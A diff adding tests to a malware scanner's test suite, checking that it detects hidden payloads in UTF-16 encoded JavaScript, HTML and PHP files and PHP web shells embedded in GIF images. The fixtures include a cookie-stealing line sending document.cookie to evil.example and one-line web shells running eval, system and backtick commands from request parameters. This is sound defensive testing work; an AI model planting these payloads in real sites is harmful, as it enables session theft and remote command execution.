@@ -56,6 +56,42 @@ describe.skipIf(!SITE_CHECK.isThere)(`long files in the site check in PHP${SITE_
     expect(told).toMatchObject({ checked: 2, findings: 2, unchecked: 0, complete: true });
   });
 
+  test.each(['utf16le', 'utf16be'] as const)('what has a mark of %s is read as that', async (encoding) => {
+    const encoded = (text: string) => {
+      const bytes = Buffer.from(`\ufeff${text}`, 'utf16le');
+      return encoding === 'utf16le' ? bytes : bytes.swap16();
+    };
+    const malware = `eval(atob("${btoa('document.location="http://evil.example/"+document.cookie')}"));`;
+    const lines = Array.from({ length: 30_000 }, (_, at) => `// ${at} ä€😀 ${'ü'.repeat(at % 40)}`).join(
+      '\n',
+    );
+    const site = siteOf({
+      'a.js': encoded(`${lines}\n${malware}`),
+      'b.html': encoded(`<p>日本\n<script>${malware}</script>`),
+      'halves.js': encoded(`var a = "\ud800 \udc00";\n${malware}`),
+      'liar.js': encoded(`/* ${'\u4141'.repeat(40)} */ ${malware}`),
+      'liar.php': Buffer.concat([encoded(''), Buffer.from(`<?php ${SHELL}`)]),
+      'liar.sh': Buffer.concat([encoded('x'), Buffer.from(`\n${'# a\n'.repeat(20)}`)]),
+      'marked.html': `\ufeff<p>\n<script>${malware}</script>`,
+    });
+    const { told, lines: found } = await site.check(service.url, key);
+    expect(told).toMatchObject({ checked: 7, findings: 6, unchecked: 0 });
+    expect(found[0]).toContain(' a.js: ');
+    expect(found[0]).toContain(', line 30001');
+    const seen = standIn(() => undefined);
+    const parts = siteOf({ 'a.js': encoded(lines) });
+    expect((await parts.check(seen.url, 'key')).told).toMatchObject({ checked: 1, unchecked: 0 });
+    const whole = `\ufeff${lines}`;
+    let end = 0;
+    for (const part of seen.contents) {
+      const at = whole.indexOf(part, Math.max(0, end - 20_000));
+      expect(at).toBeWithin(0, end + 1);
+      end = at + part.length;
+    }
+    expect([seen.contents.length > 2, end]).toEqual([true, whole.length]);
+    await seen.end();
+  });
+
   test('parts are cut between characters, share 8 KiB, and together are the file', async () => {
     const seen = standIn(() => undefined);
     const lines = Array.from({ length: 60_000 }, (_, at) => `// ${at} ä€😀 ${'ü'.repeat(at % 40)}`).join(
@@ -161,6 +197,37 @@ describe.skipIf(!SITE_CHECK.isThere)(
       const { told } = await site.check(seen.url, 'key');
       expect(seen.contents.sort()).toEqual(names.map((name) => `of ${name}`).sort());
       expect(told).toMatchObject({ checked: names.length, nothing_to_send: 7, unchecked: 0 });
+      await seen.end();
+    });
+
+    test('PHP in pictures, whatever bytes stand around it, and no picture for what chance makes', async () => {
+      const seen = standIn(() => undefined);
+      const code = {
+        comment: '<?php /*\xe9*/ @eval($_POST[1]);',
+        line: '<?php #\xff\n@eval($_POST[1]);',
+        variable: '<?php $\xe9=$_POST[1];',
+        backtick: '<?=`$_GET[1]`;',
+        noise: `<?=/*${'\x00\xff'.repeat(900)}*/\`$_GET[1]\`;`,
+        name: `<?= "${'\x00\xff'.repeat(150)}" . system($_GET[1]);`,
+      };
+      const chance = {
+        echo: '\x01<?=\xe9\x02',
+        short: '\x01<? \x03\xe9abc\x02',
+        xml: '<?xml version="1.0"?>',
+      };
+      const site = siteOf(
+        Object.fromEntries(
+          Object.entries({ ...code, ...chance }).map(([name, text]) => [
+            `${name}.gif`,
+            Buffer.from(`GIF89a\x00\xff${text}`, 'latin1'),
+          ]),
+        ),
+      );
+      const { told } = await site.check(seen.url, 'key');
+      expect(told).toMatchObject({ checked: 6, nothing_to_send: 3 });
+      const sent = seen.contents.join('');
+      for (const [name, text] of Object.entries(code))
+        expect([name, sent.includes(text)]).toEqual([name, true]);
       await seen.end();
     });
   },
